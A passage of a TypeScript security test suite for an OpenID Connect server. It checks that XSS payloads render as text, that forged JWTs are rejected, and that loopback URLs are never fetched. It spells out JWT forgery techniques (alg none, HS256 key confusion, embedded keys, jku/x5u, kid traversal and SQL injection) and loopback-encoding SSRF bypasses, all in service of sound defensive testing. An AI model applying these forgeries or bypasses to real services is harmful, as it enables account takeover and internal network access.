        await get(`${iam.issuer}/session/end?client_id=${encodeURIComponent(PAYLOAD)}`),
        await get(`${iam.issuer}/interaction/${encodeURIComponent(PAYLOAD)}`),
        await get(`${iam.issuer}/account/callback?code=${encodeURIComponent(PAYLOAD)}&state=${encodeURIComponent(PAYLOAD)}&error=${encodeURIComponent(PAYLOAD)}&error_description=${encodeURIComponent(PAYLOAD)}`),
      ]
      for (const [i, page] of pages.entries()) expectEscaped(page, `reflection ${i}`, false)
    })

    it('runs no injected script in Chromium on the pages that show the names', async () => {
      let browser: Browser | undefined
      try {
        browser = await launchChromium()
        const { page, context } = await openSession(browser)
        const xss = () => page.evaluate(() => (window as { __xss?: unknown }).__xss)
        await resetTotp()
        const verifier = oidc.randomPKCECodeVerifier()
        const url = new URL(authUrl('xss-client', APP, { scope: `openid profile ${XSS_SCOPE}`, resource: XSS_RESOURCE, prompt: 'consent' }))
        url.searchParams.set('code_challenge', await oidc.calculatePKCECodeChallenge(verifier))
        await page.goto(url.href)
        await page.getByText(upstreamName).waitFor()
        expect(await xss()).toBeUndefined()
        await page.getByLabel('Email or username', { exact: true }).fill(MALLORY.email)
        await page.getByLabel('Password', { exact: true }).fill(MALLORY.password)
        await page.getByRole('button', { name: 'Sign in', exact: true }).click()
        await page.getByRole('button', { name: `Code from App ${PAYLOAD}` }).click()
        expect(await xss()).toBeUndefined()
        await page.locator('input[name="code"]').fill(await totpCode(mallory.totp))
        await page.locator('input[name="code"]').press('Enter')
        await page.getByRole('heading', { name: 'Allow access?' }).waitFor()
        // The payload is shown as the text it is.
        await page.getByText(`Client ${PAYLOAD}`, { exact: true }).waitFor()
        expect(await xss()).toBeUndefined()
        for (const path of ['/account', '/account/security', '/account/linked', '/account/sessions']) {
          await page.goto(`${iam.issuer}${path}`)
          await page.getByText(PAYLOAD).first().waitFor().catch(async (err) => { throw new Error(`${page.url()}\n${await page.content()}`, { cause: err }) })
          expect(await xss(), path).toBeUndefined()
        }
        await context.close()
      } finally {
        await browser?.close()
      }
    }, 120_000)
  })

  // =============================================================================================
  describe('script injection: the admin console shows every name as text', () => {
    beforeAll(async () => {
      // The console the server serves is the one built from these sources (in a hook: a build takes a while).
      await build({ configFile: path.join(ROOT, 'src/admin/console/vite.config.ts'), logLevel: 'warn', build: { emptyOutDir: false } })
    })

    it('runs no injected script on the console pages that list and show users, roles, tenants, clients and audit rows', async () => {
      let browser: Browser | undefined
      try {
        browser = await launchChromium()
        const { page, context } = await openSession(browser)
        const injected = () => page.evaluate(() => ({
          xss: (window as { __xss?: unknown }).__xss,
          tags: document.querySelectorAll('img[src="x"], svg[onload], [onerror]').length,
          scripts: Array.from(document.querySelectorAll('script')).filter((s) => s.textContent?.includes('__xss')).length,
        }))
        await page.goto(`${iam.issuer}/admin/`)
        await page.getByLabel('Email or username', { exact: true }).fill(ADA.email)
        await page.getByLabel('Password', { exact: true }).fill(ADA.password)
        await page.getByRole('button', { name: 'Sign in', exact: true }).click()
        await page.getByRole('button', { name: 'Code from Authenticator app' }).click()
        await page.getByLabel('Code', { exact: true }).fill(await totpCode(admin.totp))
        await page.getByRole('button', { name: 'Verify', exact: true }).click()
        await page.getByRole('heading', { name: 'Overview', level: 1 }).waitFor()
        const pages: Array<[string, string]> = [
          ['/admin/users', `Mallory ${PAYLOAD}`],
          [`/admin/users/${mallory.id}`, `Role ${PAYLOAD}`],
          ['/admin/roles', `Role ${PAYLOAD}`],
          [`/admin/roles/${mallory.roleId}`, `Role ${PAYLOAD}`],
          ['/admin/tenants', `Tenant ${PAYLOAD}`],
          [`/admin/tenants/${mallory.tenantId}`, `Tenant ${PAYLOAD}`],
          ['/admin/clients', `Client ${PAYLOAD}`],
          ['/admin/clients/xss-client', `Client ${PAYLOAD}`],
          ['/admin/audit', PAYLOAD],
        ]
        for (const [where, text] of pages) {
          await page.goto(`${iam.issuer}${where}`)
          await page.getByRole('heading', { level: 1 }).first().waitFor()
          // Shown, as the text it is.
          await page.getByText(text).first().waitFor()
          expect(await injected(), where).toEqual({ xss: undefined, tags: 0, scripts: 0 })
        }
        await context.close()
      } finally {
        await browser?.close()
      }
    }, 120_000)
  })

  // =============================================================================================
  describe('JWT: algorithm and key attacks are refused wherever a JWT is verified', () => {
    let demoToken: string
    let otherApiToken: string
    let idToken: string
    let adminToken: string
    let serverKeys: JWK[]
    let attacker: { privateKey: CryptoKey; publicJwk: JWK }

    const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url')
    const parts = (jwt: string) => ({ header: decodeProtectedHeader(jwt) as Record<string, unknown>, payload: decodeJwt(jwt) })
    const unsigned = (header: Record<string, unknown>, payload: JWTPayload) => `${b64(header)}.${b64(payload)}.`
    const hmac = (header: Record<string, unknown>, payload: JWTPayload, key: string | Buffer) => {
      const input = `${b64({ ...header, alg: 'HS256' })}.${b64(payload)}`
      return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
    }
    const signWith = (key: CryptoKey | Uint8Array, header: Record<string, unknown>, payload: JWTPayload) =>
      new SignJWT(payload).setProtectedHeader(header as { alg: string }).sign(key)
    const serverKey = async (kty: 'EC' | 'RSA') => {
      const jwk = serverKeys.find((k) => k.kty === kty)!
      return { jwk, key: await importJWK(jwk, kty === 'EC' ? 'ES256' : 'RS256') as CryptoKey }
    }

    /** Every forgery of `legit` (an access token or ID token of this server) an attacker can make without our private keys. */
    async function forgeries(legit: string): Promise<Array<[string, string]>> {
      const { header, payload } = parts(legit)
      const kid = header.kid as string
      const served = serverKeys.find((k) => k.kid === kid)!
      const publicJwk = Object.fromEntries(Object.entries(served).filter(([k]) => ['kty', 'kid', 'crv', 'x', 'y', 'n', 'e', 'alg', 'use'].includes(k)))
      const rsa = serverKeys.find((k) => k.kty === 'RSA')!
      const rsaPem = await exportSPKI(await importJWK(Object.fromEntries(Object.entries(rsa).filter(([k]) => ['kty', 'n', 'e'].includes(k))), 'RS256', { extractable: true }) as CryptoKey)
      const attackerHeader = { ...header, alg: 'ES256' }
      return [
        ['alg none', unsigned({ ...header, alg: 'none' }, payload)],
        ['alg NONE', unsigned({ ...header, alg: 'NONE' }, payload)],
        ['alg none with the original signature kept', `${b64({ ...header, alg: 'none' })}.${b64(payload)}.${legit.split('.')[2]}`],
        ['signature stripped', `${legit.split('.').slice(0, 2).join('.')}.`],
        ['HS256 keyed with the public JWK (JSON)', hmac(header, payload, JSON.stringify(publicJwk))],
        ['HS256 keyed with the RSA public key (PEM)', hmac({ ...header, kid: rsa.kid }, payload, rsaPem)],
        ['HS256 keyed with the modulus', hmac({ ...header, kid: rsa.kid }, payload, Buffer.from(rsa.n!, 'base64url'))],
        ['payload changed under the real signature', `${legit.split('.')[0]}.${b64({ ...payload, sub: 'someone-else', scope: `${payload.scope ?? ''} admin` })}.${legit.split('.')[2]}`],
        ['another key with our kid', await signWith(attacker.privateKey, { ...attackerHeader, kid }, payload)],
        ['key embedded in the header (jwk)', await signWith(attacker.privateKey, { ...attackerHeader, jwk: attacker.publicJwk }, payload)],
        ['key embedded with our kid', await signWith(attacker.privateKey, { ...attackerHeader, kid, jwk: attacker.publicJwk }, payload)],
        ['jku pointing at the attacker’s keys', await signWith(attacker.privateKey, { ...attackerHeader, kid: 'attacker', jku: `http://127.0.0.1:${canary.port}/jwks` }, payload)],
        ['x5u pointing at the attacker', await signWith(attacker.privateKey, { ...attackerHeader, kid: 'attacker', x5u: `http://127.0.0.1:${canary.port}/cert.pem` }, payload)],
        ['kid path traversal', await signWith(attacker.privateKey, { ...attackerHeader, kid: '../../../../dev/null' }, payload)],
        ['kid SQL injection', await signWith(attacker.privateKey, { ...attackerHeader, kid: `' OR '1'='1` }, payload)],
        ['no kid at all', await signWith(attacker.privateKey, { alg: 'ES256', typ: header.typ }, payload)],
      ]
    }

    /** Tokens signed with our real key that must still be refused: expired, other audience, other issuer. */
    async function realKeyButWrong(legit: string): Promise<Array<[string, string]>> {
      const { header, payload } = parts(legit)
      const { jwk, key } = await serverKey(header.alg === 'RS256' ? 'RSA' : 'EC')
      const now = Math.floor(Date.now() / 1000)
      const h = { ...header, kid: jwk.kid }
      return [
        ['expired an hour ago', await signWith(key, h, { ...payload, iat: now - 7200, exp: now - 3600 })],
        ['for another audience', await signWith(key, h, { ...payload, aud: 'https://other.example.test' })],
        ['audience list naming another resource first', await signWith(key, h, { ...payload, aud: ['https://other.example.test'] })],
        ['another issuer', await signWith(key, h, { ...payload, iss: 'https://evil.example' })],
        ['issued in the future', await signWith(key, h, { ...payload, iat: now + 3600, nbf: now + 3600 })],
      ]
    }

    beforeAll(async () => {
      // Tokens of this server: a JWT access token for the demo API and one for another API (same
      // person, same client), an ID token, and an admin-API token for a service.
      const spa = await oidc.discovery(new URL(iam.issuer), 'spa', undefined, oidc.None(), insecure)
      const browser = new HttpBrowser(iam.issuer)
      for (const resource of [`${iam.issuer}/api`, API]) {
        const verifier = oidc.randomPKCECodeVerifier()
        const url = oidc.buildAuthorizationUrl(spa, {
          redirect_uri: SPA_REDIRECT, scope: resource === API ? 'openid read' : 'openid demo', resource, prompt: 'consent',
          code_challenge: await oidc.calculatePKCECodeChallenge(verifier), code_challenge_method: 'S256',
        })
        const callback = await signIn(browser, url.href, { login: ALICE.email, password: ALICE.password })
        const tokens = await oidc.authorizationCodeGrant(spa, callback, { pkceCodeVerifier: verifier }, { resource })
        if (resource === API) otherApiToken = tokens.access_token
        else {
          demoToken = tokens.access_token
          idToken = tokens.id_token!
        }
      }
      const svc = await oidc.discovery(new URL(iam.issuer), 'svc-admin', SVC_ADMIN_SECRET, oidc.ClientSecretBasic(SVC_ADMIN_SECRET), insecure)
      adminToken = (await oidc.clientCredentialsGrant(svc, { scope: ADMIN_PERMISSIONS.join(' '), resource: `${iam.issuer}/admin/api` })).access_token
      serverKeys = (JSON.parse(readFileSync(path.join(iam.env.KEYS_DIR!, 'jwks.json'), 'utf8')) as { keys: JWK[] }).keys
      const pair = await generateKeyPair('ES256', { extractable: true })
      attacker = { privateKey: pair.privateKey, publicJwk: await exportJWK(pair.publicKey) }
      canary.jwks = { keys: [{ ...attacker.publicJwk, kid: 'attacker', alg: 'ES256', use: 'sig' }] }
    })

    async function bearer(url: string, token: string) {
      const res = await fetch(url, { headers: { authorization: `Bearer ${token}` } })
      return { status: res.status, challenge: res.headers.get('www-authenticate') ?? '', body: await res.text() }
    }

    function expectInvalidToken(res: Awaited<ReturnType<typeof bearer>>, label: string) {
      expect(res.status, `${label}: ${res.body}`).toBe(401)
      expect(res.challenge, label).toMatch(/^Bearer\b.*error="invalid_token"/)
    }

    const resources = () => [
      { name: 'demo API', url: `${iam.issuer}/api/demo/profile`, token: demoToken },
      { name: 'admin API', url: `${iam.issuer}/admin/api/v1/me`, token: adminToken },
    ]

    it('controls: the genuine tokens are accepted, and a token re-signed with our own key unchanged is too', async () => {
      for (const r of resources()) {
        expect((await bearer(r.url, r.token)).status, r.name).toBe(200)
        const { header, payload } = parts(r.token)
        const { jwk, key } = await serverKey(header.alg === 'RS256' ? 'RSA' : 'EC')
        expect((await bearer(r.url, await signWith(key, { ...header, kid: jwk.kid }, payload))).status, `${r.name} re-signed`).toBe(200)
      }
    })

    it('refuses forged access tokens at the demo API and the admin API (401 invalid_token), fetching nothing a header names', async () => {
      const mark = canary.requests.length
      for (const r of resources()) {
        for (const [label, token] of [...await forgeries(r.token), ...await realKeyButWrong(r.token)]) {
          expectInvalidToken(await bearer(r.url, token), `${r.name}: ${label}`)
        }
      }
      expect(canary.since(mark)).toEqual([])
    })

    it('refuses a token for another resource, and an ID token used as an access token', async () => {
      for (const r of resources()) {
        expectInvalidToken(await bearer(r.url, otherApiToken), `${r.name}: token for another API`)
        expectInvalidToken(await bearer(r.url, idToken), `${r.name}: ID token`)
      }
      expectInvalidToken(await bearer(`${iam.issuer}/admin/api/v1/me`, demoToken), 'admin API: demo API token')
      expectInvalidToken(await bearer(`${iam.issuer}/api/demo/profile`, adminToken), 'demo API: admin API token')
      // userinfo takes only its own access tokens.
      for (const [label, token] of [['ID token', idToken], ['forged', (await forgeries(idToken))[0]![1]]] as const) {
        const res = await bearer(`${iam.issuer}/me`, token)
        expect(res.status, label).toBe(401)
        expect(res.challenge, label).toMatch(/error="invalid_token"/)
      }
    })

    it('introspection never says a forged token is active', async () => {
      for (const [label, token] of [...await forgeries(demoToken), ...await realKeyButWrong(demoToken)]) {
        const res = await fetch(`${iam.issuer}/token/introspection`, {
          method: 'POST',
          headers: { authorization: `Basic ${Buffer.from(`svc:${encodeURIComponent(SERVICE_SECRET)}`).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({ token }),
        })
        const body = await res.json()
        // oidc-provider does not introspect JWT access tokens at all (their resource server verifies
        // them); anything else it does not know is inactive.
        if (res.status === 400) expect(body, label).toMatchObject({ error: 'unsupported_token_type' })
        else expect(body, label).toEqual({ active: false })
        expect(body.active, label).not.toBe(true)
      }
    })

    it('end_session and /auth refuse a forged id_token_hint with an error page, never a redirect', async () => {
      const endSession = (hint: string) => `${iam.issuer}/session/end?${new URLSearchParams({ id_token_hint: hint, post_logout_redirect_uri: 'http://localhost:5173/' })}`
      // Control: the genuine hint names the client, whose registered URI is accepted (with no
      // session here, the provider's page that submits the sign-out at once).
      const ok = await get(endSession(idToken))
      expect(ok.status).toBe(200)
      expect(ok.body).toContain('/session/end/confirm')
      const { header, payload } = parts(idToken)
      const { jwk, key } = await serverKey(header.alg === 'RS256' ? 'RSA' : 'EC')
      const wrong: Array<[string, string]> = [
        ...await forgeries(idToken),
        // An expired hint is allowed at end_session (OIDC RP-Initiated Logout §2); another issuer is not.
        ['another issuer', await signWith(key, { ...header, kid: jwk.kid }, { ...payload, iss: 'https://evil.example' })],
      ]
      for (const [label, hint] of wrong) {
        const res = await get(endSession(hint))
        expect(res.location, label).toBeNull()
        expect(res.status, label).toBe(400)
        expect(res.body, label).toMatch(/id_token_hint/)
      }
      for (const [label, hint] of (await forgeries(idToken)).slice(0, 6)) {
        const res = await get(authUrl('spa', SPA_REDIRECT, { id_token_hint: hint }))
        // An invalid hint is an error the client hears about at its own registered URI, or a page.
        if (res.location) expect(res.location.startsWith(`${SPA_REDIRECT}?`) && new URL(res.location).searchParams.get('error'), label).toBe('invalid_request')
        else expect(res.status, label).toBe(400)
      }
    })

    it('refuses unsigned and HMAC client assertions, DPoP proofs and request objects', async () => {
      // private_key_jwt: the client's key is at the canary (an allowed host name).
      const pair = await generateKeyPair('ES256', { extractable: true })
      const clientJwk = { ...await exportJWK(pair.publicKey), kid: 'pkj-1', alg: 'ES256', use: 'sig' }
      canary.jwks = { keys: [clientJwk] }
      await iam.databaseNow((prisma) => createClient(prisma, { clientId: 'pkj', name: 'Key client', kind: 'service', tokenEndpointAuthMethod: 'private_key_jwt', jwksUri: `http://localhost:${canary.port}/jwks` }))
      const claims = () => ({ iss: 'pkj', sub: 'pkj', aud: iam.issuer, jti: randomUUID(), iat: Math.floor(Date.now() / 1000), exp: Math.floor(Date.now() / 1000) + 60 })
      const token = (assertion: string) => fetch(`${iam.issuer}/token`, {
        method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ grant_type: 'client_credentials', client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer', client_assertion: assertion }),
      })
      const good = await token(await signWith(pair.privateKey, { alg: 'ES256', kid: 'pkj-1' }, claims()))
      expect(good.status, await good.clone().text()).toBe(200)
      const other = await generateKeyPair('ES256', { extractable: true })
      for (const [label, assertion] of [
        ['alg none', unsigned({ alg: 'none', kid: 'pkj-1' }, claims())],
        ['HS256 keyed with the client’s public JWK', hmac({ kid: 'pkj-1' }, claims(), JSON.stringify(clientJwk))],
        ['another key with the client’s kid', await signWith(other.privateKey, { alg: 'ES256', kid: 'pkj-1' }, claims())],
        ['key embedded in the header', await signWith(other.privateKey, { alg: 'ES256', jwk: await exportJWK(other.publicKey) }, claims())],
      ] as const) {
        const res = await token(assertion)
        expect(res.status, label).toBe(401)
        expect((await res.json() as { error: string }).error, label).toBe('invalid_client')
      }
      // DPoP proofs: unsigned, HMAC, or signed by a key other than the one in their header.
      const dpopKey = await generateKeyPair('ES256', { extractable: true })
      const dpopJwk = await exportJWK(dpopKey.publicKey)
      const proofClaims = () => ({ htm: 'POST', htu: `${iam.issuer}/token`, jti: randomUUID(), iat: Math.floor(Date.now() / 1000) })
      const withProof = (proof: string) => fetch(`${iam.issuer}/token`, {
        method: 'POST',
        headers: { authorization: `Basic ${Buffer.from(`svc:${encodeURIComponent(SERVICE_SECRET)}`).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded', dpop: proof },
        body: new URLSearchParams({ grant_type: 'client_credentials', scope: 'read', resource: API }),
      })
      const goodProof = await withProof(await signWith(dpopKey.privateKey, { alg: 'ES256', typ: 'dpop+jwt', jwk: dpopJwk }, proofClaims()))
      expect(goodProof.status, await goodProof.clone().text()).toBe(200)
      for (const [label, proof] of [
        ['alg none', unsigned({ alg: 'none', typ: 'dpop+jwt', jwk: dpopJwk }, proofClaims())],
        ['HS256 keyed with the header’s public key', hmac({ typ: 'dpop+jwt', jwk: dpopJwk }, proofClaims(), JSON.stringify(dpopJwk))],
        ['signed by another key than the header’s', await signWith(other.privateKey, { alg: 'ES256', typ: 'dpop+jwt', jwk: dpopJwk }, proofClaims())],
      ] as const) {
        const res = await withProof(proof)
        expect(res.status, label).toBe(400)
        expect((await res.json() as { error: string }).error, label).toBe('invalid_dpop_proof')
      }

      // Request objects: an unsigned one is not accepted (only asymmetric algorithms are enabled).
      const request = unsigned({ alg: 'none' }, { iss: 'spa', aud: iam.issuer, client_id: 'spa', response_type: 'code', redirect_uri: 'https://evil.example/callback', scope: 'openid', code_challenge: SOME_CHALLENGE, code_challenge_method: 'S256' })
      const res = await get(`${iam.issuer}/auth?${new URLSearchParams({ client_id: 'spa', response_type: 'code', scope: 'openid', request })}`)
      if (res.location) expect(res.location.startsWith(`${SPA_REDIRECT}?`), 'errors go only to the registered URI').toBe(true)
      else expect(res.status).toBe(400)
      expect(res.location ?? '').not.toContain('evil.example')
    })
  })

  // =============================================================================================
  describe('SSRF: the server fetches nothing on loopback in any spelling', () => {
    let clientKey: { privateKey: CryptoKey; jwk: JWK }
    let seq = 0

    beforeAll(async () => {
      const pair = await generateKeyPair('ES256', { extractable: true })
      clientKey = { privateKey: pair.privateKey, jwk: { ...await exportJWK(pair.publicKey), kid: 'ssrf-1', alg: 'ES256', use: 'sig' } }
      canary.jwks = { keys: [clientKey.jwk] }
    })

    /** The spellings of loopback a URL host can take; names from the hosts file that resolve to loopback are added. */
    async function loopbackHosts(): Promise<string[]> {
      const hosts = [
        '127.0.0.1', '127.1', '127.0.1', '2130706433', '0x7f000001', '0x7f.0.0.1', '0177.0.0.1', '017700000001', '127.000.000.001',
        '%31%32%37.0.0.1', '[::1]', '[0:0:0:0:0:0:0:1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', 'localhost.', 'LOCALHOST.',
      ]
      for (const name of ['runsc', 'vm', 'localhost.localdomain', 'ip6-localhost']) {
        try {
          const { address } = await lookup(name)
          if (address.startsWith('127.') || address === '::1') hosts.push(name)
        } catch {
          // not in this machine's hosts file
        }
      }
      return hosts
    }

    async function clientCredentialsWithKey(clientId: string) {
      const now = Math.floor(Date.now() / 1000)
      const assertion = await new SignJWT({ iss: clientId, sub: clientId, aud: iam.issuer, jti: randomUUID(), iat: now, exp: now + 60 })
        .setProtectedHeader({ alg: 'ES256', kid: 'ssrf-1' }).sign(clientKey.privateKey)
      const res = await fetch(`${iam.issuer}/token`, {
        method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ grant_type: 'client_credentials', client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer', client_assertion: assertion }),
      })
      return { status: res.status, json: await res.json() as Record<string, unknown> }
    }

    /** A private_key_jwt service client whose jwks_uri is `uri` (a direct write: registries may check less than the provider). */
    async function keyClient(uri: string): Promise<string> {
      const id = `ssrf-jwks-${++seq}`
      await iam.databaseNow((prisma) => createClient(prisma, { clientId: id, name: id, kind: 'service', tokenEndpointAuthMethod: 'private_key_jwt', jwksUri: 'http://localhost/placeholder' }))
      await iam.databaseNow(async (prisma) => {
        const row = await prisma.client.findUniqueOrThrow({ where: { id } })
        await prisma.client.update({ where: { id }, data: { metadata: { ...(row.metadata as object), jwks_uri: uri } } })
      })
      return id
    }

    it('control: a jwks_uri on an allowed host is fetched and the client authenticates', async () => {
      const mark = canary.requests.length
      const id = await keyClient(`http://localhost:${canary.port}/jwks`)
      const res = await clientCredentialsWithKey(id)
      expect(res.status, JSON.stringify(res.json)).toBe(200)
      expect(canary.since(mark).map((r) => r.url)).toContain('/jwks')
    })

    it('private_key_jwt: a jwks_uri on loopback in any encoding is never requested, and the client is refused', async () => {
      for (const host of await loopbackHosts()) {
        const uri = `http://${host}:${canary.port}/jwks`
        const mark = canary.requests.length
        const id = await keyClient(uri)
        const res = await clientCredentialsWithKey(id)
        expect(canary.since(mark), uri).toEqual([])
        expect(res.status, `${uri}: ${JSON.stringify(res.json)}`).toBe(401)
        expect(res.json.error, uri).toBe('invalid_client')
      }
    })

    it('back-channel logout: only the allowed host is notified at sign-out, loopback in any other spelling is not', async () => {
      const hosts = await loopbackHosts()
      const ids: Array<[string, string]> = []
      await iam.databaseNow(async (prisma) => {
        // The last one: the allowed host answering with a redirect to a blocked address.
        const redirecting = `localhost:${canary.port}/redirect?to=${encodeURIComponent(`http://127.0.0.1:${canary.port}/backchannel/redirected`)}#`
        for (const [i, host] of ['localhost', ...hosts, redirecting].entries()) {
          const id = `bcl-${i}`
          const redirect = `http://localhost:7${String(i).padStart(3, '0')}/callback`
          await createClient(prisma, { clientId: id, name: id, kind: 'spa', firstParty: true, redirectUris: [redirect], backchannelLogoutUri: 'http://localhost/placeholder' })
          const row = await prisma.client.findUniqueOrThrow({ where: { id } })
          await prisma.client.update({ where: { id }, data: { metadata: { ...(row.metadata as object), backchannel_logout_uri: host === redirecting ? `http://${host.slice(0, -1)}` : `http://${host}:${canary.port}/backchannel/${i}` } } })
          ids.push([id, redirect])
        }
      })
      // One browser session signed in to every client (first-party: no consent).
      const browser = new HttpBrowser(iam.issuer)
      let idToken = ''
      for (const [id, redirect] of ids) {
        const { callback, verifier } = await aliceSignsIn(id, redirect, browser)
        expect(callback.href.startsWith(`${redirect}?`), id).toBe(true)
        if (!idToken) {
          const res = await fetch(`${iam.issuer}/token`, {
            method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' },
            body: new URLSearchParams({ grant_type: 'authorization_code', client_id: id, code: callback.searchParams.get('code')!, redirect_uri: redirect, code_verifier: verifier }),
          })
          idToken = (await res.json() as { id_token: string }).id_token
        }
      }
      const mark = canary.requests.length
      const page = await browser.navigate(`${iam.issuer}/session/end?${new URLSearchParams({ id_token_hint: idToken })}`)
      const form = formsOf(page.body)[0]!
      const done = await browser.navigate(new URL(form.action, iam.issuer).href, { form: { ...form.fields, logout: 'yes' } })
      expect(done.body).toContain('You are signed out')
      // Control: the allowed host's notification arrives; then give the others as long again.
      const deadline = Date.now() + 10_000
      while (!canary.since(mark).some((r) => r.url === '/backchannel/0') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100))
      await new Promise((r) => setTimeout(r, 3000))
      // The redirecting host is asked, its redirect is not followed (sent with redirect: 'manual').
      expect(canary.since(mark).map((r) => `${r.method} ${r.url}`).sort()).toEqual(['POST /backchannel/0', expect.stringMatching(/^POST \/redirect\?to=/)].sort())
    }, 120_000)

    it('sector_identifier_uri on loopback is never requested', async () => {
      tlsCanary.sector = [APP]
      const ids: string[] = []
      await iam.databaseNow(async (prisma) => {
        for (const [i, host] of ['localhost', '127.0.0.1', '2130706433', '[::1]', 'localhost.'].entries()) {
          const id = `sector-${i}`
          await createClient(prisma, { clientId: id, name: id, kind: 'web', secret: APP_SECRET, redirectUris: [APP] })
          const row = await prisma.client.findUniqueOrThrow({ where: { id } })
          await prisma.client.update({ where: { id }, data: { metadata: { ...(row.metadata as object), sector_identifier_uri: `https://${host}:${tlsCanary.port}/sector?${i}` } } })
          ids.push(id)
        }
      })
      const fetched: string[] = []
      for (const id of ids) {
        const mark = tlsCanary.requests.length
        const res = await get(authUrl(id, APP))
        fetched.push(...tlsCanary.since(mark).map((r) => r.url))
        // Control (the allowed host): fetched, the document lists the redirect URI, sign-in starts.
        // Loopback: the client cannot be loaded, an error page.
        expect(res.status, id).toBe(id === 'sector-0' ? 303 : 400)
        expect(res.location === null || new URL(res.location, iam.issuer).origin === iam.issuer, id).toBe(true)
      }
      expect(fetched).toEqual(['/sector?0'])
    })

    // An allowed host is exempt from the outbound policy itself, not the hops it redirects to.
    it('private_key_jwt: an allowed host that redirects to a blocked address gets no request through', async () => {
      const mark = canary.requests.length
      const id = await keyClient(`http://localhost:${canary.port}/redirect?to=${encodeURIComponent(`http://127.0.0.1:${canary.port}/jwks?via=redirect`)}`)
      const res = await clientCredentialsWithKey(id)
      expect(canary.since(mark).map((r) => r.url)).not.toContain('/jwks?via=redirect')
      expect(res.status).toBe(401)
    })

    it('sector_identifier_uri: an allowed host that redirects to a blocked address gets no request through', async () => {
      tlsCanary.sector = [APP]
      await iam.databaseNow(async (prisma) => {
        await createClient(prisma, { clientId: 'sector-redirect', name: 'sector-redirect', kind: 'web', secret: APP_SECRET, redirectUris: [APP] })
        const row = await prisma.client.findUniqueOrThrow({ where: { id: 'sector-redirect' } })
        await prisma.client.update({ where: { id: 'sector-redirect' }, data: { metadata: { ...(row.metadata as object), sector_identifier_uri: `https://localhost:${tlsCanary.port}/redirect?to=${encodeURIComponent(`https://127.0.0.1:${tlsCanary.port}/sector?redirected`)}` } } })
      })
      const mark = tlsCanary.requests.length
      const res = await get(authUrl('sector-redirect', APP))
      expect(tlsCanary.since(mark).map((r) => r.url)).not.toContain('/sector?redirected')
      expect(res.status).toBe(400)
    })

    it('request_uri and client ID metadata URLs on loopback are never fetched', async () => {
      const mark = canary.requests.length
      for (const host of ['localhost', '127.0.0.1', '[::1]', '2130706433']) {
        const requestUri = await get(`${iam.issuer}/auth?${new URLSearchParams({ client_id: 'spa', response_type: 'code', scope: 'openid', redirect_uri: SPA_REDIRECT, request_uri: `http://${host}:${canary.port}/request.jwt` })}`)
        expect(requestUri.status, host).toBeLessThan(500)
        const clientId = await get(authUrl(`http://${host}:${canary.port}/client.json`, SPA_REDIRECT))
        expect(clientId.location, host).toBeNull()
        expect(clientId.status, host).toBe(400)
      }
      expect(canary.since(mark)).toEqual([])
    })
  })
})
